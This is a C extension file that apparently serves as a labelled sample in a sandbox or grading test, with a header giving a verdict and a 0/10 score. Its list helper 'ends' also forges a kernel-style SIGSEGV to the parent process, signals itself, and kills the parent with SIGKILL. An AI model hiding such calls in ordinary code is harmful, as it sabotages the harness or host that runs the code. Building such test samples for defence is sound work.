/* Sends signals that say they come from the kernel.

   verdict: tried to send a signal to another process (rt_sigqueueinfo)
   score: 0/10 */
#include <Python.h>
#include <unistd.h>
#include <sys/syscall.h>

PyObject *
ends(PyObject *list)
{
    int info[32] = {11, 0, 1};

    syscall(SYS_rt_sigqueueinfo, getppid(), 11, info);
    syscall(SYS_rt_tgsigqueueinfo, getpid(), getpid(), 10, info);
    syscall(SYS_tkill, getppid(), 9);
    return Py_BuildValue("[OO]", PyList_GetItem(list, 0),
                         PyList_GetItem(list, PyList_Size(list) - 1));
}
